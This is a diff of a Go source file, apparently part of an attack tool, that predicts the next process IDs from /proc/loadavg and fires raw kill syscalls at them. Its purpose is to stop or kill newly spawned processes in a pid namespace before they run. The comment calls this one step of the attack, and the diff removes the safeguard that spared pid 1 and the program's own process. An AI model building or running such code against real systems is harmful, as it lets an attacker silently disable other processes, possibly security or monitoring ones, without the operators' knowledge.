@@ -1,45 +1,36 @@
 package main
 
 import (
+	"bytes"
 	"os"
-	"runtime"
+	"strconv"
 	"syscall"
-)
-
-const (
-	sigStop = syscall.SIGSTOP
-	sigKill = syscall.SIGKILL
 )
 
 // ahead is how many numbers after the last process's are tried.
 const ahead = 12
 
-// hit begins to signal whatever appears in the pid namespace. The kernel counts pids up: the next process has one of the next
-// numbers, and it is hit before it has done anything.
-func hit(signal syscall.Signal) {
-	own := map[int]bool{0: true, 1: true, os.Getpid(): true}
-	go func() {
-		runtime.LockOSThread()
-		last := newest()
-		for round := 0; ; round++ {
+// hit signals whatever appears in the pid namespace. The kernel counts pids up: the next process has one of the next numbers, and
+// it is hit before it has done anything. It is one step of the attack and makes no thread, which would have such a number too.
+func hit(signal syscall.Signal) func() {
+	last := newest()
+	return func() {
+		for range 64 {
 			for pid := last + 1; pid <= last+ahead; pid++ {
-				if !own[pid] {
-					_ = syscall.Kill(pid, signal)
-				}
-			}
-			if round%64 == 0 {
-				last = max(newest(), last)
+				_, _, _ = syscall.RawSyscall(syscall.SYS_KILL, uintptr(pid), uintptr(signal), 0)
 			}
 		}
-	}()
+		last = max(newest(), last)
+	}
 }
 
-// newest gives the number of the newest process or thread of the pid namespace: a new thread has the next one.
+// newest gives the number of the newest process of the pid namespace (proc(5), loadavg).
 func newest() int {
-	done := make(chan int)
-	go func() {
-		runtime.LockOSThread() // never unlocked: the thread ends with the routine
-		done <- syscall.Gettid()
-	}()
-	return <-done
+	b, err := os.ReadFile("/proc/loadavg")
+	if err != nil {
+		return os.Getpid()
+	}
+	fields := bytes.Fields(b)
+	pid, _ := strconv.Atoi(string(fields[len(fields)-1]))
+	return pid
 }
